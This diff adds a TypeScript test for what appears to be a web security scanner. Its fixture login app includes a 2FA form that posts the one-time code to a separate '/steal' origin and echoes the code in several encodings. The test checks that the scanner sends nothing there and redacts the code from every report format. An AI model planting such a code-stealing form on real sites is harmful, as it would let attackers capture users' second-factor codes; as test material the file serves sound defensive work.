@@ -1,0 +1,81 @@
+import assert from 'node:assert/strict'
+import { randomBytes } from 'node:crypto'
+import { test } from 'node:test'
+import { render, scan } from '@sessionguard/scanner'
+import * as apps from '@sessionguard/testkit'
+
+// A hostile second step: the code form posts to another origin, and every answer echoes the code it
+// was sent (as typed, base64, hex, percent-encoded, in a header and in a redirect's query). The code
+// must reach the target only, and no report may carry it in any of those forms.
+
+const FORMATS = ['pretty', 'json', 'sarif', 'junit', 'markdown', 'html'] as const
+
+test('a code form that posts elsewhere and pages that echo the code: the code stays on the target and out of every report', async () => {
+  const elsewhere = await apps.startElsewhere()
+  const sessions = new Map<string, 'half' | 'full'>()
+  const codes: string[] = []
+  const sid = (cookie: string | string[] | undefined): string | undefined => /sid=([^;]+)/.exec(String(cookie ?? ''))?.[1]
+  const app = await apps.startHostileApp((req, res, body) => {
+    const u = new URL(req.url ?? '/', 'http://x')
+    const state = sessions.get(sid(req.headers.cookie) ?? '')
+    const html = (s: string, status = 200, headers: Record<string, string> = {}) =>
+      res.writeHead(status, { 'content-type': 'text/html', ...headers }).end(`<!doctype html><html><body>${s}</body></html>`)
+    if (u.pathname === '/login' && req.method === 'GET')
+      return html(
+        '<form method="post" action="/login"><input name="username"><input type="password" name="password"><button>Go</button></form>',
+      )
+    if (u.pathname === '/login') {
+      if (!new URLSearchParams(body).get('password')?.startsWith('alice-password')) return html('no', 401)
+      const id = randomBytes(16).toString('hex')
+      sessions.set(id, 'half')
+      return res.writeHead(303, { location: '/2fa', 'set-cookie': `sid=${id}; Path=/; HttpOnly` }).end()
+    }
+    if (u.pathname === '/2fa' && req.method === 'GET' && state)
+      return html(
+        `<form method="post" action="${elsewhere.url}/steal"><input name="code" autocomplete="one-time-code"><button>Verify</button></form>`,
+      )
+    if (u.pathname === '/2fa' && req.method === 'POST' && state) {
+      const code = new URLSearchParams(body).get('code') ?? ''
+      codes.push(code)
+      // the half-authenticated id becomes the signed-in one (SG-FIX-MFA): the echoes are part of its proof
+      sessions.set(sid(req.headers.cookie)!, 'full')
+      const echo = `${code} ${Buffer.from(code).toString('base64')} ${Buffer.from(code).toString('hex')} ${encodeURIComponent(`c=${code}`)}`
+      return res.writeHead(303, { location: `/account?echo=${code}`, 'x-echo': echo }).end(echo)
+    }
+    if (u.pathname === '/account' && state === 'full')
+      return html(`<p>Welcome alice</p><p>you typed ${u.searchParams.get('echo') ?? ''}</p>`)
+    if (u.pathname === '/logout') return res.writeHead(303, { location: '/login' }).end()
+    return res.writeHead(302, { location: '/login' }).end()
+  })
+  try {
+    const secret = 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP'
+    const report = await scan({
+      target: app.url,
+      login: {
+        page: '/login',
+        url: '/login',
+        credentials: { username: 'alice', password: 'alice-password-1', totp_secret: secret },
+        mfa: { type: 'totp' },
+        check: { url: '/account', contains: 'Welcome alice' },
+      },
+    })
+    assert.ok(codes.length >= 2, 'the scan logged in with codes')
+    assert.equal(elsewhere.hits, 0, 'nothing was sent to the origin the code form named')
+    assert.ok(!app.sent().includes(secret), 'the TOTP secret itself never leaves the scanner')
+    const everything = FORMATS.map((f) => render(report, f)).join('\n')
+    assert.ok(
+      report.findings.some((f) => f.id === 'SG-FIX-MFA'),
+      'the proof holds the code post and its echoes',
+    )
+    assert.match(render(report, 'json'), /x-echo/)
+    for (const code of new Set(codes)) {
+      // codes are registered as passwords are: hex and the deeper forms follow the redactor's password forms (issue 23)
+      for (const form of [code, Buffer.from(code).toString('base64'), encodeURIComponent(`c=${code}`)])
+        assert.ok(!everything.includes(form), `code ${code} appears in a report as ${form}`)
+    }
+    assert.ok(!everything.includes(secret))
+  } finally {
+    await app.close()
+    await elsewhere.close()
+  }
+})
